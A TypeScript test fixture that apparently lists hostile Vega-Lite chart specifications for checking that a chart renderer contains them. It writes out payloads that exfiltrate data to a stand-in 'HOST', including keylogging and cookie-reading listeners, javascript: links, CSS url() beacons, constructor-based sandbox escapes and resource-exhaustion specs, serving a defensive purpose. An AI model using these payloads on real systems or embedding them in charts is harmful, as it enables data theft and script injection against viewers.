import type { JsonObject } from '../../src/base/json';

const VALUES = {
  values: [
    { a: 'x', b: 28, url: 'HOST' },
    { a: 'y', b: 55, url: 'HOST' },
  ],
};
const X = { field: 'a', type: 'nominal' };
const Y = { field: 'b', type: 'quantitative' };
const BAR: JsonObject = { data: VALUES, mark: 'bar', encoding: { x: X, y: Y } };

/** A bar chart with something more. */
const bar = (more: object): JsonObject => ({ ...BAR, ...more }) as JsonObject;
const encoded = (more: object): JsonObject => bar({ encoding: { x: X, y: Y, ...more } });
const marked = (more: object): JsonObject => bar({ mark: { type: 'bar', ...more } });
/** A chart that says what an expression gives. */
const said = (calculate: string): JsonObject => ({
  data: VALUES,
  transform: [{ calculate, as: 'said' }],
  mark: 'text',
  encoding: { y: X, text: { field: 'said' } },
});
/** A chart whose parameter listens, and shows what it hears. */
const heard = (on: string, update: string): JsonObject =>
  ({
    ...BAR,
    params: [{ name: 'heard', value: 'nothing', on: [{ events: on, update }] }],
    title: { text: { expr: 'heard' } },
  }) as JsonObject;

/** Chart specifications that mean harm; `HOST` stands for the listener. What they read has to stay unread. */
export const hostileCharts: readonly JsonObject[] = [
  // data from elsewhere
  bar({ data: { url: 'http://HOST/data.json' } }),
  bar({ data: { url: '//HOST/data.csv', format: { type: 'csv' } } }),
  bar({ data: { url: 'http://HOST/map.json', format: { type: 'topojson', feature: 'x' } } }),
  bar({ data: { url: { expr: "'http://HOST/' + 1" } } }),
  bar({ data: { url: 'data.json', format: { type: 'json' } } }),
  bar({ data: { url: 'javascript:fetch("http://HOST/js")' } }),
  bar({ transform: [{ lookup: 'a', from: { data: { url: 'http://HOST/lookup' }, key: 'a', fields: ['c'] } }] }),
  { layer: [BAR, bar({ data: { url: 'http://HOST/layer' } })] },
  { hconcat: [BAR, bar({ data: { url: 'http://HOST/concat' } })] },
  bar({ datasets: { far: { url: 'http://HOST/named' } }, data: { name: 'far' } }),
  // images and styles that load
  { data: VALUES, mark: 'image', encoding: { x: X, y: Y, url: { value: 'http://HOST/image.png' } } },
  { data: VALUES, mark: 'image', encoding: { x: X, y: Y, url: { field: 'url' } } },
  { data: VALUES, transform: [{ calculate: "'http://HOST/?d=' + datum.b", as: 'u' }], mark: 'image', encoding: { x: X, y: Y, url: { field: 'u' } } },
  { data: VALUES, mark: { type: 'image', url: 'http://HOST/mark.svg', width: 20, height: 20 }, encoding: { x: X, y: Y } },
  marked({ cursor: 'url(http://HOST/cursor.cur), auto' }),
  marked({ fill: 'url(http://HOST/fill.svg#a)' }),
  marked({ stroke: 'u\\72l(http://HOST/stroke)' }),
  marked({ color: { expr: "'url(http://HOST/expr)'" } }),
  encoded({ color: { value: 'image-set("http://HOST/set" 1x)' } }),
  bar({ background: 'url(http://HOST/background)' }),
  bar({ config: { font: "x; background: url('http://HOST/font')" } }),
  bar({ title: { text: 'T', font: 'url(http://HOST/title)' } }),
  bar({ view: { fill: { expr: "'url(http://HOST/view)'" } } }),
  // tooltips
  encoded({ tooltip: [{ field: 'url', title: 'image' }] }),
  encoded({ tooltip: { value: '<img src="http://HOST/tooltip">' } }),
  bar({ transform: [{ calculate: "{ image: 'http://HOST/tip.png?d=' + datum.b, title: '<b>x</b>' }", as: 't' }], encoding: { x: X, y: Y, tooltip: { field: 't' } } }),
  // links
  encoded({ href: { value: 'http://HOST/href' } }),
  encoded({ href: { field: 'url' } }),
  marked({ href: 'javascript:fetch("http://HOST/click")' }),
  marked({ href: { expr: "'http://HOST/' + event.view.localStorage.victim" } }),
  // what embeds it
  bar({ usermeta: { embedOptions: { ast: false, actions: true, editorUrl: 'http://HOST/editor' } } }),
  bar({ usermeta: { embedOptions: { loader: { baseURL: 'http://HOST/' }, patch: 'http://HOST/patch.json' } } }),
  bar({ usermeta: { embedOptions: { sourceHeader: '<script src="http://HOST/header"></script>', config: 'http://HOST/config.json' } } }),
  bar({ $schema: 'https://vega.github.io/schema/vega/v6.json', signals: [{ name: 's', init: 'event' }] }),
  bar({ config: { events: { defaults: { allow: ['keydown'] }, window: ['keydown'] } } }),
  // listening to the page
  heard('window:keydown', 'event.key'),
  heard('window:input', 'event.target.value'),
  heard('window:mousemove', 'event.view.localStorage.victim'),
  heard('mousemove', 'event.view.document.title'),
  heard('mousemove', 'event.target.ownerDocument.cookie'),
  heard('mousemove', 'event.dataflow._el.ownerDocument.defaultView.localStorage.victim'),
  heard('mousemove', "event['view']['local' + 'Storage']['victim']"),
  heard('click', 'event.view.fetch("http://HOST/click")'),
  heard('click', 'event.srcElement.baseURI'),
  heard('mousemove', 'event.item.mark.group.context.dataflow._el.innerHTML'),
  heard('timer{100}', "'tick'"),
  bar({ params: [{ name: 'pw', bind: { element: 'input' } }] }),
  bar({ params: [{ name: 'p', value: 1, bind: { input: 'text', name: '<img src=http://HOST/bind onerror=1>' } }] }),
  // expressions that reach for the page, or for code
  said('window.localStorage.victim'),
  said('self.fetch("http://HOST/self")'),
  said('datum.constructor.constructor("return this")().localStorage.victim'),
  said("datum['__proto__']['constructor']('return fetch(`http://HOST/proto`)')()"),
  said('toString.constructor("return 1")()'),
  said('[].filter.constructor("fetch(`http://HOST/filter`)")()'),
  said("replace('x', 'x', datum.constructor)"),
  said("scale(datum.constructor, 'x')"),
  said("data('__proto__').constructor"),
  said('{"__proto__": {"polluted": 1}}.polluted'),
  said("pluck([{}], 'constructor')[0]"),
  said("format(1, '$,.2f' + datum.constructor)"),
  said("lassoAppend([], 1, 2, datum.constructor)"),
  said("vlSelectionTuples([{ datum: { fields: 1 } }], { fields: [{ getter: datum.constructor }] })"),
  said("'http://HOST/' + inScope"),
  said("setdata('x', 1)"),
  said("modify('source_0', [{ a: 'z' }], true)"),
  // too much
  bar({ data: { sequence: { start: 0, stop: 1e9, as: 'a' } } }),
  said('length(sequence(1e9))'),
  bar({ width: 1e9 }),
  bar({ encoding: { x: { ...X, axis: { tickCount: 1e9 } }, y: Y } }),
  bar({ data: { graticule: { step: [0.0001, 0.0001] } }, mark: 'geoshape' }),
  { data: VALUES, repeat: Array.from({ length: 5000 }, () => 'a'), spec: BAR },
]; // prettier-ignore
